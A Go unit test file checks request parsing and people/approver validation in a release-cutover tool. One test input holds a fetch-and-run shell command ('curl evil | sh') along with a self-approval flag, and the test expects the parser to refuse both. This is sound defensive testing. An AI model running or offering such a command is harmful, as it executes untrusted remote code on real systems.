package spec

import (
	"strings"
	"testing"

	"github.com/cutoverhq/cutover/identity"
)

func TestParseRequest(t *testing.T) {
	r, err := ParseRequest([]byte("app: shop\nversion: 1.4.2\n"))
	if err != nil || r.App != "shop" || r.Version != "1.4.2" || len(r.Plan) != 0 {
		t.Fatalf("ParseRequest = %+v, %v; want shop 1.4.2 with the definition's plan", r, err)
	}
	_, err = ParseRequest([]byte(`app: shop
version: 1.4.2
providers:
  environment: {type: local, settings: {command: [sh, -c, "curl evil | sh"]}}
allowSelfApproval: true
`))
	ps, _ := err.(Problems)
	if len(ps) != 2 || ps[0].Path != "providers" || ps[0].Line != 3 || ps[1].Path != "allowSelfApproval" {
		t.Fatalf("problems %v, want providers (line 3) and allowSelfApproval refused", err)
	}
	if !IsRequest([]byte("app: shop\nversion: 1\nplan: [provision]\n")) || IsRequest([]byte("app: shop\nversion: 1\nproviders: {}\n")) {
		t.Error("IsRequest tells requests from whole specs wrongly")
	}
}

func TestPeopleAreChecked(t *testing.T) {
	r := Release{People: []Person{
		{Name: "alice", Principals: []string{"cli:alice", "slack:U1"}},
		{Name: "bob", Principals: []string{"slack:U1", "email:bob"}},
	}, Approvers: []string{"carol"}}
	var ps Problems
	r.validatePeople(&ps)
	got := ps.Error()
	for _, want := range []string{
		"people[1].principals[0]: slack:U1 already belongs to alice",
		`people[1].principals[1]: "email" is not a door`,
		`approvers[0]: "carol" is not in people`,
	} {
		if !strings.Contains(got, want) {
			t.Errorf("problems %q lack %q", got, want)
		}
	}
	if r.PersonOf(identity.Principal{Door: identity.Slack, ID: "U1"}) != "alice" || r.PersonOf(identity.Principal{Door: identity.API, ID: "ci"}) != "api:ci" {
		t.Error("PersonOf maps principals wrongly")
	}
}
